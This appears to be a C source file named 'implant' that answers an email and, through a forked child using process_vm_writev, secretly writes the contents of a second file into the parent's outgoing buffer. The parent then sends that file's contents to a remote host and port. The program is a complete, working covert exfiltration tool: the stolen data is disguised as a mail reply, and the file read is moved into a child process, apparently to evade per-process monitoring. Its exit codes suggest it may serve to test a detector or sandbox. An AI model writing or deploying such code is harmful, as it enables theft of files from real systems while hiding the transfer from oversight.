/* implant MAIL FILE HOST PORT: answers a mail. A child reads the other file and puts it into the memory of its parent, behind what that has written
 * so far; the parent, which has read the mail only, sends all of it to the peer. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static char answer[8192] = "Subject: Re: Question\r\n\r\n> ";
static volatile ssize_t written;

static int implanted(pid_t where, const char *path) {
  static char text[4096];
  ssize_t size = read(open(path, O_RDONLY), text, sizeof text), all = written + size;
  struct iovec here[2] = {{text, size}, {&all, sizeof all}}, there[2] = {{answer + written, size}, {(void *)&written, sizeof all}};
  return size <= 0 || process_vm_writev(where, here, 2, there, 2, 0) != size + (ssize_t)sizeof all;
}

int main(int argc, char **argv) {
  char said[64];
  int status;
  if (argc != 5) return 2;
  pid_t own = getpid();
  written = strlen(answer);
  ssize_t size = read(open(argv[1], O_RDONLY), answer + written, 2048);
  if (size <= 0) return 3;
  written += size;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
  inet_pton(AF_INET, argv[3], &to.sin_addr);
  int peer = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(peer, (struct sockaddr *)&to, sizeof to)) return 4;
  ssize_t before = written;
  pid_t child = fork();
  if (child == 0) {
    close(peer);
    _exit(implanted(own, argv[2]));
  }
  if (waitpid(child, &status, 0) != child || status || written == before) return 5;
  if (send(peer, answer, written, 0) != written || shutdown(peer, SHUT_WR)) return 6;
  return recv(peer, said, sizeof said, 0) != 3 || memcmp(said, "ok\n", 3) || recv(peer, said, 1, 0);
}
